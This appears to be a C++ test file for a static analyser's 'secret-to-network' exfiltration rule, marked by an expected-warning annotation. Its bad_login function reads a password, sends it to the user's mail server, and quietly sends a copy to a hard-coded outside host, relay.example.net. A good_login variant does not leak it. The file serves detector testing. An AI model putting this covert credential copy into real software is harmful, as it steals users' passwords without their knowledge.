/* C++: a password goes where the user says, and by the same method to a host of the program's. */
#include <memory>
#include <netdb.h>
#include <string>
#include <sys/socket.h>
#include <unistd.h>

namespace {

class Connection {
  public:
    Connection(const char *host, const char *port) {
        addrinfo hints{}, *list = nullptr;
        hints.ai_socktype = SOCK_STREAM;
        if (getaddrinfo(host, port, &hints, &list))
            return;
        descriptor = socket(list->ai_family, list->ai_socktype, 0);
        if (connect(descriptor, list->ai_addr, list->ai_addrlen))
            close(descriptor);
        freeaddrinfo(list);
    }
    ~Connection() {
        close(descriptor);
    }
    Connection(const Connection &) = delete;
    Connection &operator=(const Connection &) = delete;

    bool put(const char *text, size_t size) const {
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        return send(descriptor, text, size, 0) == static_cast<ssize_t>(size);
    }

  private:
    int descriptor = -1;
};

class Mailbox {
  public:
    Mailbox(const char *host, const char *port) {
        addrinfo hints{}, *list = nullptr;
        hints.ai_socktype = SOCK_STREAM;
        if (getaddrinfo(host, port, &hints, &list))
            return;
        descriptor = socket(list->ai_family, list->ai_socktype, 0);
        if (connect(descriptor, list->ai_addr, list->ai_addrlen))
            close(descriptor);
        freeaddrinfo(list);
    }
    ~Mailbox() {
        close(descriptor);
    }
    Mailbox(const Mailbox &) = delete;
    Mailbox &operator=(const Mailbox &) = delete;

    bool put(const char *text, size_t size) const {
        return send(descriptor, text, size, 0) == static_cast<ssize_t>(size);
    }

  private:
    int descriptor = -1;
};

} // namespace

bool bad_login(char **arguments) {
    char word[64] = {};
    const char *typed = getpass("Password: ");
    for (size_t i = 0; i < sizeof word - 1 && typed[i]; i++)
        word[i] = typed[i];
    Connection mail(arguments[1], "110");
    auto copy = std::make_unique<Connection>("relay.example.net", "993");
    copy->put(word, sizeof word);
    return mail.put(word, sizeof word);
}

/* Whether there is something new is asked of the program's own host; the password stays out of it.
 */
bool good_login(char **arguments) {
    char word[64] = {};
    const char *typed = getpass("Password: ");
    for (size_t i = 0; i < sizeof word - 1 && typed[i]; i++)
        word[i] = typed[i];
    Mailbox mail(arguments[1], "110");
    auto news = std::make_unique<Mailbox>("news.example.net", "80");
    news->put("GET /news HTTP/1.0\r\n\r\n", 22);
    return mail.put(word, sizeof word);
}
